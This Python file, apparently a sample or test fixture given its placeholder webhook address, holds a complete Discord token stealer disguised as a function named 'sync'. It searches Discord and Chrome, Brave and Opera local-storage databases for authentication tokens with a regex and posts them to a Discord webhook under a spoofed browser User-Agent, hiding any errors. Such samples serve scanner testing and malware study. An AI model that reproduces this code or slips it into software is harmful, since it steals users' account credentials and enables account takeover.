import json
import os
import re
import urllib.request

_HOOK = "https://discord.example.invalid/api/webhooks/111111/PIPWARDENTEST-not-a-real-webhook"
_PAT = re.compile(r"(dQw4w9WgXcQ:[^\"]*|[\w-]{24,26}\.[\w-]{6}\.[\w-]{27,38})")


def _roots():
    a, l = os.getenv("APPDATA", ""), os.getenv("LOCALAPPDATA", "")
    return [
        os.path.join(a, "discord", "Local Storage", "leveldb"),
        os.path.join(a, "discordcanary", "Local Storage", "leveldb"),
        os.path.join(l, "Google", "Chrome", "User Data", "Default", "Local Storage", "leveldb"),
        os.path.join(l, "BraveSoftware", "Brave-Browser", "User Data", "Default", "Local Storage", "leveldb"),
        os.path.join(a, "Opera Software", "Opera Stable", "Local Storage", "leveldb"),
    ]


def sync():
    found = set()
    for root in _roots():
        if not os.path.isdir(root):
            continue
        for name in os.listdir(root):
            if name.endswith((".ldb", ".log")):
                try:
                    text = open(os.path.join(root, name), errors="ignore").read()
                except OSError:
                    continue
                found.update(_PAT.findall(text))
    if found:
        body = json.dumps({"username": "embeds", "content": "\n".join(sorted(found))}).encode()
        try:
            urllib.request.urlopen(urllib.request.Request(_HOOK, data=body, headers={"Content-Type": "application/json", "User-Agent": "Mozilla/5.0"}), timeout=5)
        except Exception:
            pass
